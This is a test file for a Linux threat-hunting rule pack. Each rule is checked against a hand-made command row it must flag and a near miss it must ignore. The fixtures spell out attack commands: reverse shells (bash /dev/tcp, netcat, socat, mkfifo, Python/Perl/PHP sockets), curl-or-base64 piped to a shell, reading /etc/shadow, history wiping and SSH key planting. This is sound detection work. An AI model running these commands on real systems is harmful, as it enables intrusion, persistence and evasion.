// prec's own rule pack (rules/prec/): each rule fires on a hand-made row showing what it is for and
// stays quiet on a near miss. And every shipped rule (SigmaHQ's and prec's) compiles, with the
// unsupported ones listed, reasons and counts, in docs/hunting.md.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import { compileAst } from '../../src/query/index.js';
import { fieldByName } from '../../src/schema/index.js';
import { loadRules, RuleSet, type CompiledRule } from '../../src/hunt/index.js';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const PACK = loadRules([join(ROOT, 'rules/prec')]);
const SIGMA = loadRules([join(ROOT, 'rules/sigma')]);

type Row = Record<string, unknown>;
const row = (exe: string, argv: string[], extra: Row = {}): Row => ({
  record_type: 'command', user: 'alice', uid: 1000, pid: 200, ppid: 100, cwd: '/home/alice',
  parent_exe: '/usr/bin/bash', parent_cmdline: 'bash', exe, argv, ...extra,
});
const sh = (cmd: string, extra: Row = {}): Row => row('/usr/bin/bash', ['bash', '-c', cmd], extra);
const www = { user: 'www-data', uid: 33 };

/** rule file -> [a row it must match, a near miss it must not]. */
const CASES: Record<string, [Row, Row]> = {
  service_account_shell: [row('/usr/bin/dash', ['sh', '-c', 'id'], www), row('/usr/bin/php8.2', ['php', 'index.php'], www)],
  service_account_network_tool: [row('/usr/bin/curl', ['curl', 'http://x/a'], www), row('/usr/bin/curl', ['curl', 'http://x/a'])],
  service_account_recon: [row('/usr/bin/whoami', ['whoami'], { user: 'nginx' }), row('/usr/bin/whoami', ['whoami'])],
  service_account_crontab: [row('/usr/bin/crontab', ['crontab', '/tmp/c'], www), row('/usr/bin/crontab', ['crontab', '-l'])],
  service_account_cron_write: [row('/usr/bin/cp', ['cp', 'x', '/etc/cron.d/x'], www), row('/usr/bin/cp', ['cp', 'x', '/etc/crontab-backup-not'], { user: 'root' })],
  service_account_systemd_write: [row('/usr/bin/tee', ['tee', '/etc/systemd/system/x.service'], www), row('/usr/bin/tee', ['tee', '/etc/systemd/system/x.service'])],
  service_account_shadow: [row('/usr/bin/cat', ['cat', '/etc/shadow'], { user: 'postgres' }), row('/usr/bin/cat', ['cat', '/etc/passwd'], { user: 'postgres' })],
  service_account_sudo: [row('/usr/bin/sudo', ['sudo', '-l'], { user: 'tomcat' }), row('/usr/bin/sudo', ['sudo', '-l'])],
  download_pipe_shell: [sh('curl -fsSL http://x/i.sh | sh'), sh('curl -fsSL http://x/i.sh -o i.sh')],
  base64_pipe_shell: [sh('echo ZWNobyBoaQ== | base64 -d | bash'), sh('base64 -d a.b64 > a.bin')],
  reverse_shell_dev_tcp: [sh('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), sh('ls /dev/tty')],
  reverse_shell_netcat_exec: [row('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh']), row('/usr/bin/nc', ['nc', '-zv', 'host', '22'])],
  reverse_shell_socat_exec: [row('/usr/bin/socat', ['socat', 'tcp:10.0.0.1:4444', 'exec:/bin/sh,pty']), row('/usr/bin/socat', ['socat', 'TCP-LISTEN:80', 'TCP:host:8080'])],
  reverse_shell_mkfifo: [sh('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'), sh('mkfifo /run/myapp.fifo')],
  python_pty_spawn: [row('/usr/bin/python3', ['python3', '-c', 'import pty; pty.spawn("/bin/bash")']), row('/usr/bin/python3', ['python3', '-c', 'import os; print(1)'])],
  python_socket_shell: [
    row('/usr/bin/python3', ['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)']),
    row('/usr/bin/python3', ['python3', '-c', 'import socket; print(socket.gethostname())']),
  ],
  perl_socket_shell: [row('/usr/bin/perl', ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec("/bin/sh -i")']), row('/usr/bin/perl', ['perl', '-e', 'print 1'])],
  php_socket_shell: [row('/usr/bin/php', ['php', '-r', '$s=fsockopen("h",1);exec("/bin/sh -i <&3");']), row('/usr/bin/php', ['php', '-r', 'echo 1;'])],
  exec_from_tmp: [row('/tmp/x', ['./x']), row('/usr/bin/tmpreaper', ['tmpreaper', '/tmp'])],
  exec_from_dev_shm: [row('/dev/shm/true', ['true']), row('/usr/bin/true', ['true'], { cwd: '/dev/shm' })],
  exec_from_var_tmp: [row('/var/tmp/.x/kinsing', ['kinsing']), row('/var/lib/tmpx/y', ['y'])],
  chmod_exec_tmp: [row('/usr/bin/chmod', ['chmod', '+x', '/tmp/x']), row('/usr/bin/chmod', ['chmod', '600', '/tmp/x'])],
  curl_to_tmp: [row('/usr/bin/wget', ['wget', '-O', '/dev/shm/k', 'http://x/k']), row('/usr/bin/wget', ['wget', '-O', '/home/alice/k', 'http://x/k'])],
  history_clear: [sh('history -c && exit'), sh('history | tail')],
  history_file_removed: [row('/usr/bin/rm', ['rm', '-f', '/root/.bash_history']), row('/usr/bin/cat', ['cat', '/root/.bash_history'])],
  authorized_keys_write: [sh('echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'), row('/usr/bin/cat', ['cat', '/root/.ssh/authorized_keys'])],
  setuid_search: [row('/usr/bin/find', ['find', '/', '-perm', '-4000', '-type', 'f']), row('/usr/bin/find', ['find', '/', '-perm', '-644'])],
  exec_a_masquerade: [sh('exec -a "[kworker/0:1]" /tmp/x'), sh('exec /usr/bin/env true')],
  exe_deleted: [row('/tmp/x (deleted)', ['x'], { exe_deleted: true }), row('/tmp/x', ['x'], { exe_deleted: false })],
  exe_memfd: [row('/memfd:x (deleted)', ['x'], { exe_memfd: true }), row('/usr/bin/x', ['x'], { exe_memfd: false })],
  // Same basename through another directory is no mismatch.
  argv0_mismatch: [row('/usr/bin/sleep', ['[kworker/0:1]', '60']), row('/usr/bin/sleep', ['/bin/sleep', '60'])],
};

const byName = new Map(PACK.map((r) => [r.file.replace(/^.*\/prec_/, '').replace(/\.yml$/, ''), r]));

test('prec pack: at least 25 supported rules, each with a test here', () => {
  assert.equal(PACK.filter((r) => r.supported).length >= 25, true);
  const untested = [...byName.keys()].filter((n) => !(n in CASES) && byName.get(n)!.supported);
  assert.deepEqual(untested, []);
});

for (const [name, [hit, miss]] of Object.entries(CASES)) {
  test(`prec pack: ${name} fires on its case and not on the near miss`, () => {
    const rule = byName.get(name);
    assert.ok(rule, `rules/prec/prec_${name}.yml`);
    if (!rule.supported) {
      // Rules on kernel fields another change adds: unsupported until the catalogue has them.
      assert.match(rule.reason, /^field (exe_deleted|exe_memfd) not in this build$/);
      assert.equal(fieldByName(name), undefined);
      return;
    }
    const p = compileAst([rule.ast]).predicate;
    assert.equal(p(hit), true, 'positive case');
    assert.equal(p(miss), false, 'near miss');
    // The same through the rule set, whose row prefilter must not lose the hit.
    const set = new RuleSet([rule]);
    assert.deepEqual([set.match(hit), set.match(miss)], [[0], []]);
  });
}

test('prec pack: argv0_mismatch stays quiet on the legitimate mismatches it filters', () => {
  const rule = byName.get('argv0_mismatch')!;
  assert.ok(rule.supported);
  const p = compileAst([rule.ast]).predicate;
  const quiet = [
    row('/usr/bin/bash', ['-bash']),
    row('/usr/bin/busybox', ['ls', '-l']),
    row('/usr/bin/dash', ['sh', '-c', 'id']),
    row('/usr/bin/dash', ['/bin/sh']),
    row('/usr/bin/python3.12', ['python3', 'x.py']),
    row('/usr/bin/mawk', ['awk', '{print}']),
    row('/usr/bin/vim.basic', ['vi', 'f']),
    row('/usr/bin/convert-im6.q16', ['convert', 'a.png', 'b.jpg']),
  ];
  for (const r of quiet) assert.equal(p(r), false, JSON.stringify(r.argv));
  // But a shell named like something else, or a renamed interpreter, still fires.
  assert.equal(p(row('/usr/bin/bash', ['sshd'])), true);
  assert.equal(p(row('/usr/bin/python3.12', ['[kthreadd]'])), true);
});

/** The table docs/hunting.md must carry, generated from the rules. */
export function unsupportedTable(rules: readonly CompiledRule[]): string {
  const lines = rules.filter((r) => !r.supported).map((r) => `| ${r.file.replace(/^.*\/rules\//, 'rules/')} | ${(r as { reason: string }).reason} |`);
  const supported = rules.filter((r) => r.supported).length;
  return [`Supported: ${supported} of ${rules.length} shipped rules.`, '', '| rule | why unsupported |', '|---|---|', ...lines].join('\n');
}

test('every shipped rule compiles; docs/hunting.md lists the unsupported ones and the counts', () => {
  const all = [...SIGMA, ...PACK];
  assert.equal(SIGMA.length, 122);
  for (const r of all) if (r.supported) assert.doesNotThrow(() => compileAst([r.ast]), r.file);
  const doc = readFileSync(join(ROOT, 'docs/hunting.md'), 'utf8');
  const table = unsupportedTable(all);
  assert.ok(doc.includes(table), `docs/hunting.md must contain, exactly:\n${table}`);
  assert.ok(doc.includes(`SigmaHQ: ${SIGMA.filter((r) => r.supported).length} of ${SIGMA.length} supported`));
});
